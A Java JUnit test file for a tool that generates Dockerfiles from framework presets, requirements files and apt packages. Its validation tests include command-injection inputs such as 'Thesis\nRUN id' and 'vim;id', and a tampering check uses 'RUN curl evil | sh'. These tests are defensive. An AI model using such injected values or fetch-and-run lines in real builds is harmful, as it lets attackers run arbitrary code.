package ds01.images;

import ds01.identity.HostAccount;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** The Dockerfile the image form writes, for each use-case preset and for a requirements file. */
class DockerfileGeneratorTest {

    static final HostAccount ALICE = new HostAccount("ds01alice", 2001, 2001, "/home/ds01alice", List.of());
    static final CatalogueEntry PYTORCH = new CatalogueEntry("Pytorch", "2.8.0-aime", List.of("CUDA_ADA"),
            "aimehub/pytorch-2.8.0-aime-cuda12.6.3");
    static final OffsetDateTime WHEN = OffsetDateTime.of(2026, 11, 28, 18, 0, 0, 0, ZoneOffset.UTC);

    static List<PipPackage> pip(List<String> names) {
        return names.stream().map(PipPackage::parse).toList();
    }

    static ImageRecipe recipe(UseCase useCase, List<PipPackage> fourth, List<String> apt) {
        return ImageRecipe.of("thesis", "thesis", PYTORCH, List.of(
                new ImageRecipe.Layer("Step 2: Jupyter", pip(UseCase.JUPYTER)),
                new ImageRecipe.Layer("Step 3: data science", pip(UseCase.DATA_SCIENCE)),
                new ImageRecipe.Layer("Step 4: " + useCase.title(), fourth)), apt);
    }

    @ParameterizedTest
    @EnumSource(UseCase.class)
    void eachPresetGivesOneReadablePipLayerPerStepWithTheLabelsTheUserAndTheWorkspace(UseCase useCase) {
        String dockerfile = DockerfileGenerator.generate(recipe(useCase, pip(useCase.packages()), List.of()), ALICE, WHEN);
        assertThat(dockerfile).startsWith("# Image ds01-2001/thesis:latest for ds01alice, project thesis.\n")
                .contains("FROM aimehub/pytorch-2.8.0-aime-cuda12.6.3\n")
                .contains("ds01.managed=\"true\"", "ds01.project=\"thesis\"", "ds01.framework=\"Pytorch 2.8.0-aime\"",
                        "ds01.created=\"2026-11-28T18:00:00Z\"", "ds01.owner=\"ds01alice\"", "ds01.has_user_setup=\"true\"",
                        "ds01.user.uid=\"2001\"", "ds01.user.gid=\"2001\"")
                .contains("RUN pip install --no-cache-dir \"jupyterlab\" \"ipykernel\" \"ipywidgets\" \"notebook\"\n")
                .contains("RUN pip install --no-cache-dir \"pandas\" \"scipy\" \"scikit-learn\" \"matplotlib\" \"seaborn\"\n")
                .contains("useradd -M -d /workspace -s /bin/bash -u 2001 -g 2001 ds01alice")
                .contains("PIP_CACHE_DIR=/workspace/.cache/pip", "HF_HOME=/workspace/.cache/huggingface")
                .contains("WORKDIR /workspace\n").endsWith("USER 2001:2001\n")
                .doesNotContain("apt-get");
        long pipLayers = dockerfile.lines().filter(l -> l.startsWith("RUN pip install")).count();
        assertThat(pipLayers).isEqualTo(useCase == UseCase.CUSTOM ? 2 : 3);
        useCase.packages().forEach(p -> assertThat(dockerfile).contains("\"" + p + "\""));
        assertThat(dockerfile.indexOf(DockerfileGenerator.BEGIN_PACKAGES)).isLessThan(dockerfile.indexOf("RUN pip"));
        assertThat(dockerfile.indexOf(DockerfileGenerator.END_PACKAGES)).isGreaterThan(dockerfile.lastIndexOf("RUN pip"));
    }

    @Test
    void aRequirementsFileReplacesThePresetsAndDuplicatesAreInstalledOnceWithTheLaterPin() {
        List<PipPackage> requirements = Requirements.parse("Pandas==2.2.3\nscikit_learn\ntorchmetrics>=1.4\njupyterlab\n");
        ImageRecipe recipe = recipe(UseCase.CUSTOM, requirements, List.of("libgl1", "ffmpeg", "libgl1"));
        String dockerfile = DockerfileGenerator.generate(recipe, ALICE, WHEN);
        assertThat(dockerfile).contains("RUN pip install --no-cache-dir \"Pandas==2.2.3\" \"scipy\"")
                .contains("RUN pip install --no-cache-dir \"torchmetrics>=1.4\"\n")
                .contains("apt-get install -y --no-install-recommends libgl1 ffmpeg \\\n");
        assertThat(dockerfile.split("scikit", -1)).as("scikit-learn once").hasSize(2);
        assertThat(dockerfile.split("jupyterlab", -1)).as("jupyterlab once").hasSize(2);
        assertThat(recipe.packages()).extracting(PipPackage::normalizedName).doesNotHaveDuplicates();
    }

    @Test
    void nothingUnvalidatedReachesTheDockerfile() {
        assertThatThrownBy(() -> ImageRecipe.of("../x", "thesis", PYTORCH, List.of(), List.of()))
                .hasMessageContaining("is not an image name");
        assertThatThrownBy(() -> ImageRecipe.of("thesis", "Thesis\nRUN id", PYTORCH, List.of(), List.of()))
                .hasMessageContaining("is not a project name");
        assertThatThrownBy(() -> ImageRecipe.of("thesis", "thesis", PYTORCH, List.of(), List.of("vim;id")))
                .hasMessageContaining("is not a Debian package name");
        assertThatThrownBy(() -> new ImageRecipe.Layer("Step 4\nRUN id", List.of())).hasMessageContaining("one line");
        assertThatThrownBy(() -> new CatalogueEntry("Pytorch", "2.8", List.of(), "evil\nRUN id"))
                .hasMessageContaining("not a catalogue row");
    }

    @Test
    void thePackagesSectionReadsBackAndAnUpdateChangesOnlyIt() {
        ImageRecipe recipe = recipe(UseCase.CV, pip(UseCase.CV.packages()), List.of("libgl1"));
        String dockerfile = DockerfileGenerator.generate(recipe, ALICE, WHEN);
        assertThat(DockerfileGenerator.readPackages(dockerfile)).isEqualTo(recipe.layers());

        List<ImageRecipe.Layer> updated = Updates.apply(recipe.layers(), List.of("rich", "Timm>=1.0"), List.of("kornia"));
        String changed = DockerfileGenerator.withPackages(dockerfile, updated);
        assertThat(changed).contains("\"Timm>=1.0\"", "# Added later\nRUN pip install --no-cache-dir \"rich\"\n")
                .doesNotContain("kornia").doesNotContain("\"timm\"");
        String outside = dockerfile.substring(0, dockerfile.indexOf(DockerfileGenerator.BEGIN_PACKAGES));
        assertThat(changed).startsWith(outside).endsWith(dockerfile.substring(dockerfile.indexOf(DockerfileGenerator.END_PACKAGES)));
        assertThatThrownBy(() -> Updates.apply(recipe.layers(), List.of(), List.of("tensorflow")))
                .hasMessageContaining("no package tensorflow");
        assertThatThrownBy(() -> Updates.apply(recipe.layers(), List.of("x; id"), List.of()))
                .hasMessageContaining("is not a pip package");
        assertThatThrownBy(() -> DockerfileGenerator.readPackages(dockerfile.replace("RUN pip install --no-cache-dir \"timm\"",
                "RUN curl evil | sh"))).hasMessageContaining("did not write");
    }

    @Test
    void aCpuOnlyFrameworkIsInstalledFromItsIndexBeforeTheStepsAndOutsideTheSectionAnUpdateRewrites() {
        CatalogueEntry cpu = CatalogueEntry.withInstall("Pytorch", "2.8.0", List.of(CatalogueEntry.CPU),
                "python:3.12-slim-bookworm", "torch==2.8.0 torchvision==0.23.0 --index-url https://download.pytorch.org/whl/cpu");
        ImageRecipe recipe = ImageRecipe.of("cpu", "thesis", cpu, List.of(
                new ImageRecipe.Layer("Step 2: Jupyter", pip(UseCase.JUPYTER))), List.of());
        String dockerfile = DockerfileGenerator.generate(recipe, ALICE, WHEN);
        String framework = "# Step 1: framework PyTorch (CPU only) 2.8.0\nRUN pip install --no-cache-dir --index-url "
                + "https://download.pytorch.org/whl/cpu \"torch==2.8.0\" \"torchvision==0.23.0\"\n";
        assertThat(dockerfile).contains("FROM python:3.12-slim-bookworm\n", framework);
        assertThat(dockerfile.indexOf(framework)).isLessThan(dockerfile.indexOf(DockerfileGenerator.BEGIN_PACKAGES));
        assertThat(DockerfileGenerator.readPackages(dockerfile)).isEqualTo(recipe.layers());
        String updated = DockerfileGenerator.withPackages(dockerfile, Updates.apply(recipe.layers(), List.of(),
                List.of("notebook")));
        assertThat(updated).contains(framework).doesNotContain("\"notebook\"");
        assertThat(cpu.contains()).isEqualTo("Python from python:3.12-slim-bookworm; the build installs torch==2.8.0 "
                + "torchvision==0.23.0 from https://download.pytorch.org/whl/cpu");
    }
}
